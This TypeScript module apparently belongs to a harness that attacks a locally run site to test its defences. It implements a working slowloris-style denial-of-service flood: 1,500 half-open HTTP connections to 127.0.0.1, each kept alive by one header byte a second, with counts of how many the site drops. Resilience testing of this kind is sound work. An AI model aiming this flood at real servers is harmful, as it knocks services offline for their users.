import { connect, type Socket } from 'node:net';
import { setInterval } from 'node:timers/promises';
import { ATTACKER } from '../attacked-site.ts';
import { untilOver, type Attack, type Flood } from '../flood.ts';

const CONNECTIONS = 1_500;
const DRIP_MS = 1_000;

/** Connections whose requests never end: one more byte of a header each second. */
export const halfOpen: Flood = {
  name: 'half-open connections',
  async run({ site, tally, signal }: Attack) {
    const sockets = new Set<Socket>();
    for (let n = 0; n < CONNECTIONS; n += 1) {
      const socket = connect({ port: site.port, host: '127.0.0.1', localAddress: ATTACKER.localAddress });
      socket.on('connect', () => socket.write(`GET / HTTP/1.1\r\nhost: 127.0.0.1:${site.port}\r\nx-slow: `));
      socket.on('error', () => undefined); // counted when it closes
      socket.on('close', () => {
        sockets.delete(socket);
        if (!signal.aborted) tally.add('closed by the site');
      });
      sockets.add(socket.resume());
    }
    tally.add('connections', CONNECTIONS);
    const drip = async (): Promise<void> => {
      for await (const _ of setInterval(DRIP_MS, undefined, { signal }))
        for (const socket of sockets) socket.write('x');
    };
    await Promise.all([untilOver(signal), drip().catch(() => undefined)]); // aborted with the attack
    tally.add('held to the end', sockets.size);
    for (const socket of sockets) socket.destroy();
  },
};
